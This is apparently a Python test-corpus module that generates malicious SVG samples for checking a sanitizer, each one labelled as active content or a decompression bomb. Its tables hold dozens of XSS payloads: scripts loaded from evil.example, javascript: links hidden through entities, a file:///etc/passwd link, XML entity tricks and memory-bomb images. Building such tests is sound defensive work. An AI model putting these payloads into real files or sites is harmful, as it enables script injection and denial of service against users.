"""Attacks that look like what editors and browsers' extensions leave in drawings."""
# ruff: noqa: E501  # tables, where a case is one line

import base64
from collections.abc import Iterator

from testkit.corpus.good_svg import NS, XLINK
from testkit.corpus.png_bytes import END, SIGNATURE, chunk, header
from testkit.corpus.sample import SVG, Sample, bad

_IMG = "<img src=x onerror=alert(1)>"
_NS_A = '<!ENTITY ns_a "http://a.example/">'
_SVG = f"svg {NS} {XLINK}"
_HTML = 'xmlns="http://www.w3.org/1999/xhtml"'
_FONT = base64.b64encode(b"<svg xmlns='http://www.w3.org/2000/svg'/>").decode()
_HUGE = base64.b64encode(SIGNATURE + header(30_000, 30_000, 8, 6) + chunk(b"IDAT", b"") + END).decode()

ACTIVE: dict[str, str] = {
    "script-with-text": f'<{_SVG}><script id="bw-fido2-page-script">alert(1)</script></svg>',
    "script-with-reference": f'<{_SVG}><script id="a">&#97;lert(1)</script></svg>',
    "script-with-comment": f"<{_SVG}><script><!--\nalert(1)//--></script></svg>",
    "script-with-cdata": f"<{_SVG}><script> <![CDATA[alert(1)]]></script></svg>",
    "script-with-instruction": f"<{_SVG}><script><?a alert(1)?></script></svg>",
    "script-with-element": f"<{_SVG}><script><tspan>alert(1)</tspan></script></svg>",
    "script-in-script": f"<{_SVG}><script><script/></script></svg>",
    "script-with-href": f'<{_SVG}><script href="//evil.example/x.js"/></svg>',
    "script-with-xlink": f'<{_SVG}><script xlink:href="data:,alert(1)"/></svg>',
    "script-with-fragment": f'<{_SVG}><script href="#a"/></svg>',
    "script-of-html-with-src": f'<{_SVG}><script {_HTML} src="//evil.example/x.js"/></svg>',
    "script-without-namespace-with-src": f'<{_SVG}><script xmlns="" src="//evil.example/x.js"/></svg>',
    "script-in-title": f"<{_SVG}><title><script/></title><text>alert(1)//</text></svg>",
    "script-in-desc": f"<{_SVG}><desc><script></script></desc></svg>",
    "script-behind-title": f"<{_SVG}><title><g/></title><script/><text>alert(1)</text></svg>",
    "script-filled-later": f'<{_SVG}><script id="s"/><set href="#s" attributeName="href" to="data:,alert(1)"/></svg>',
    "handler-nullish": f'<{_SVG}><g onclick="null,alert(1)"/></svg>',
    "handler-null-line": f'<{_SVG}><g onclick="null&#10;alert(1)"/></svg>',
    "entity-markup": f'<!DOCTYPE svg [<!ENTITY ns_a "http://a/&#60;script>">]><{_SVG}>&ns_a;</svg>',
    "entity-script": f'<!DOCTYPE svg [<!ENTITY ns_a "javascript:alert(1)">]><{_SVG}><a href="&ns_a;"/></svg>',
    "entity-of-html": f'<!DOCTYPE svg [<!ENTITY lpar "http://a/">]><{_SVG}><style>a{{fill:url&lpar;//evil)}}</style></svg>',
    "entity-of-html-colon": f'<!DOCTYPE svg [<!ENTITY colon "http://a/">]><{_SVG}><a href="javascript&colon;alert(1)"/></svg>',
    "entity-of-html-prefix": f'<!DOCTYPE svg [<!ENTITY gta "http://a/">]><{_SVG}>&gta;</svg>',
    "entity-in-image": f'<!DOCTYPE svg [{_NS_A}]><{_SVG}><image href="&ns_a;x.png"/></svg>',
    "entity-in-use": f'<!DOCTYPE svg [{_NS_A}]><{_SVG}><use href="&ns_a;x.svg#a"/></svg>',
    "entity-in-style": f"<!DOCTYPE svg [{_NS_A}]><{_SVG}><style>a{{fill:url(&ns_a;)}}</style></svg>",
    "entity-in-import": f'<!DOCTYPE svg [{_NS_A}]><{_SVG}><style>@import "&ns_a;";</style></svg>',
    "entity-in-attribute": f'<!DOCTYPE svg [{_NS_A}]><{_SVG}><g fill="url(&ns_a;)"/></svg>',
    "entity-as-html-namespace": f'<!DOCTYPE svg [<!ENTITY ns_a "http://www.w3.org/1999/xhtml">]><{_SVG}><body xmlns="&ns_a;" onload="alert(1)"/></svg>',
    "entity-nested": f'<!DOCTYPE svg [<!ENTITY ns_a "http://a/"><!ENTITY ns_b "&ns_a;&ns_a;">]><{_SVG}>&ns_b;</svg>',
    "entity-system": f'<!DOCTYPE svg [<!ENTITY ns_a SYSTEM "http://a.example/">]><{_SVG}>&ns_a;</svg>',
    "entity-parameter": f'<!DOCTYPE svg [<!ENTITY % ns_a "http://a.example/">%ns_a;]><{_SVG}/>',
    "entity-and-attlist": f'<!DOCTYPE svg [{_NS_A}<!ATTLIST svg onload CDATA "alert(1)">]><{_SVG}/>',
    "entity-and-element": f"<!DOCTYPE svg [{_NS_A}<!ELEMENT svg ANY>]><{_SVG}/>",
    "entity-many": f'<!DOCTYPE svg [{"".join(f"<!ENTITY ns_{n} {chr(34)}http://a/{chr(34)}>" for n in range(40))}]><{_SVG}/>',
    "subset-comment": f"<!DOCTYPE svg [<!-- >{_IMG} -->{_NS_A}]><{_SVG}/>",
    "subset-comment-behind": f"<!DOCTYPE svg [{_NS_A}<!-- >{_IMG} -->]><{_SVG}/>",
    "subset-instruction": f"<!DOCTYPE svg [<?x >{_IMG}?>{_NS_A}]><{_SVG}/>",
    "font-that-is-none": f"<{_SVG}><style>@font-face{{src:url(data:;base64,{_FONT})}}</style></svg>",
    "font-as-bytes-that-is-none": f"<{_SVG}><style>@font-face{{src:url(data:application/octet-stream;base64,{_FONT})}}</style></svg>",
    "font-from-elsewhere": f"<{_SVG}><style>@font-face{{src:url(https://fonts.example/a.woff2)}}</style></svg>",
    "image-drawing-type": f'<{_SVG}><image href="data:img/svg+xml;base64,{_FONT}"/></svg>',
    "profile-page": f'<{_SVG}><color-profile xlink:href="data:text/html,a"/></svg>',
    "background-address": f'<{_SVG} background="//evil.example/a.png"/>',
    "background-url": f'<{_SVG}><g background="url(https://evil.example/a.png)"/></svg>',
    "background-in-desc": f'<{_SVG}><desc><table background="https://evil.example/a.png"/></desc></svg>',
    "fill-that-looks-like-a-name": f'<{_SVG}><g fill="image(https://evil.example/)"/></svg>',
    "unknown-form": f'<{_SVG}><desc><form action="javascript:alert(1)"/></desc></svg>',
    "unknown-input": f'<{_SVG}><title><input type="image" src="//evil.example"/></title></svg>',
    "unknown-source": f'<{_SVG}><layer src="//evil.example/a.png"/></svg>',
    "unknown-handler": f'<{_SVG}><metadata><layer onclick="alert(1)"/></metadata></svg>',
    "unknown-leaves": f"<{_SVG}><metadata><p/></metadata><g><![CDATA[>{_IMG}]]></g></svg>",
    "unknown-link": f'<{_SVG}><title><link rel="stylesheet" href="https://evil.example/"/></title></svg>',
    "unknown-base": f'<{_SVG}><desc><base href="https://evil.example/"/></desc></svg>',
    "link-script-behind-http": f'<{_SVG}><a href="java&#10;script:alert(1)//https://example.org/"/></svg>',
    "link-relative": f'<{_SVG}><a href="/admin/delete"/></svg>', "link-data": f'<{_SVG}><a href="data:text/html,a"/></svg>',
    "link-file": f'<{_SVG}><a href="file:///etc/passwd"/></svg>', "link-no-scheme": f'<{_SVG}><a href="//evil.example"/></svg>',
    "link-animated": f'<{_SVG}><a href="https://example.org/"><set attributeName="href" to="javascript:alert(1)"/></a></svg>',
    "link-ping": f'<{_SVG}><a href="https://example.org/" ping="https://evil.example/"/></svg>',
    "draw-io": f"<{_SVG}><switch><foreignObject><div {_HTML}>a</div></foreignObject><text>a</text></switch></svg>",
    "figma-blur": f'<{_SVG}><foreignObject x="0"><div {_HTML} style="backdrop-filter:blur(2px)"/></foreignObject></svg>',
    "says-utf16-script": f'<?xml version="1.0" encoding="utf-16"?><{_SVG}><script>alert(1)</script></svg>',
    "windows-1252-script": f'<?xml version="1.0" encoding="windows-1252"?><{_SVG}><g onload="alert(1)"/></svg>',
}  # fmt: skip
BOMBS = {
    "entity-references": f"<!DOCTYPE svg [{_NS_A}]><{_SVG}><text>{'&ns_a;' * 200_000}</text></svg>",
    "picture-as-font": f"<{_SVG}><style>svg{{background:url(data:font/woff2;base64,{_HUGE})}}</style></svg>",
    "picture-without-type-in-style": f"<{_SVG}><style>svg{{background:url(data:;base64,{_HUGE})}}</style></svg>",
    "picture-of-photoshop": f'<{_SVG}><image href="data:img/png;base64,{_HUGE}"/></svg>',
    "picture-of-photoshop-in-style": f"<{_SVG}><style>svg{{background:url(data:img/png;base64,{_HUGE})}}</style></svg>",
}


def samples() -> Iterator[Sample]:
    for name, text in ACTIVE.items():
        yield bad(f"editors/{name}", SVG, text.encode(), "active_content|malformed", "it runs or loads something")
    for name, text in BOMBS.items():
        yield bad(f"editors/{name}", SVG, text.encode(), "decompression_bomb", "it takes much memory to be opened")
